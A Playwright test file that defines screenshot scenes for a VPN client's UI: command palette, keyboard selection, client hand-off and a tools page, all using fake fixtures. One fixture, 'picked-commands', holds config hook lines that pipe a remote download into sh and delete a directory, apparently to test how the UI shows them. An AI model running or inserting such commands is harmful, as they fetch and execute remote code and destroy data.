import type { Page } from 'playwright-core';
import type { FakeOptions } from '#test/renderer/fake/options.ts';
import { purchaseEntry } from './entry.ts';
import type { Scene } from './scene.ts';

const location = (
  id: number,
  code: string,
  title: string,
  description: string,
  ping_ip: string | null = `192.0.2.${String(id)}`,
  is_active = true,
) => ({ id, code, title, description, is_active, ping_ip });
const library: FakeOptions['library'] = {
  'locations.list': [
    location(1, 'de', 'Germany', 'Frankfurt'),
    location(2, 'nl', 'Нидерланды', 'Амстердам'),
    location(4, 'fi', 'Finland', 'Helsinki, for those who need a long line to say where it is'),
    location(5, 'pl', 'Poland', 'Warsaw'),
    location(8, 'us', 'United States of America, west coast, behind the mountains', 'Los Angeles'),
    location(9, 'jp', 'Japan', 'Tokyo', '2001:db8:85a3::8a2e:370:7334', false),
    location(18, 'ru', 'Россия', 'Москва', null),
  ],
};
const fromService = purchaseEntry({
  endpoint: 'xray.createKeys',
  productKind: null,
  spends: false,
  input: {},
  result: { by: 'answer' },
  balance: null,
  secrets: [
    { name: 'private-key', hidden: 43 },
    { name: 'public-key', hidden: 43 },
  ],
  unsaved: true,
});

async function measure(page: Page): Promise<void> {
  await page.locator('table').waitFor();
  await page.locator('button:has-text("Measure"), button:has-text("Измерить")').click();
  await page.getByText(/no answer|нет ответа/).waitFor();
}

async function toKeys(page: Page): Promise<void> {
  await page.locator('[data-pair]').last().scrollIntoViewIfNeeded();
}

/** Opens the palette and types into it. */
function palette(words = '') {
  return async (page: Page): Promise<void> => {
    await page.keyboard.press('Control+KeyK');
    await page.getByRole('combobox').waitFor();
    await page.keyboard.type(words);
    await page.getByRole('option').first().or(page.locator('dialog [role=status]')).waitFor();
  };
}

/** Selects the first rows of the list by keyboard. */
async function pickThree(page: Page): Promise<void> {
  await page.getByRole('row').first().waitFor();
  await page.getByRole('grid').focus();
  await page.keyboard.press('Home');
  await page.keyboard.press('Shift+ArrowDown');
  await page.keyboard.press('Shift+ArrowDown');
  await page.getByRole('toolbar').waitFor();
}

async function openInClient(page: Page): Promise<void> {
  await page.getByRole('row').filter({ hasText: 'Phone' }).first().click();
  await page
    .locator('button:has-text("Open in a client"), button:has-text("Открыть в клиенте")')
    .click();
}

/** The palette, the selection in the list, the hand-over to a client, and the tools. */
export const toolScenes: readonly Scene[] = [
  { name: 'palette', act: palette() },
  { name: 'palette-found', act: palette('e') },
  { name: 'palette-page', path: '/settings', act: palette('light') },
  { name: 'palette-nothing', act: palette('qqqq') },
  { name: 'picked', act: pickThree },
  {
    name: 'picked-copied',
    act: async (page) => {
      await pickThree(page);
      await page.keyboard.press('Control+KeyC');
      await page.locator('[data-toast]').waitFor();
    },
  },
  {
    name: 'picked-commands',
    fake: { commands: ['PostUp = curl https://example.com/x | sh', 'PreDown = rm -r /tmp/x'] },
    act: async (page) => {
      await pickThree(page);
      await page.getByRole('toolbar').getByRole('button').last().click();
      await page.getByRole('toolbar').getByRole('switch').waitFor();
    },
  },
  { name: 'client-handed', fake: { client: 'Nekoray' }, act: openInClient },
  {
    name: 'client-nobody',
    act: async (page) => {
      await openInClient(page);
      await page.locator('article').getByRole('alert').waitFor();
    },
  },
  { name: 'help', path: '/help' },
  { name: 'tools', path: '/tools', fake: { library } },
  { name: 'tools-measured', path: '/tools', fake: { library }, act: measure },
  { name: 'tools-keys', path: '/tools', fake: { library, made: true }, act: toKeys },
  {
    name: 'tools-keys-service',
    path: '/tools',
    fake: {
      library,
      made: true,
      journal: { entries: [fromService], unreadable: [], persistent: true },
    },
    act: toKeys,
  },
  { name: 'tools-first', path: '/tools' },
  { name: 'tools-loading', path: '/tools', fake: { silent: ['cache.read'] } },
  {
    name: 'tools-offline',
    path: '/tools',
    fake: { libraryFailure: { kind: 'offline', reason: 'unreachable' } },
  },
];
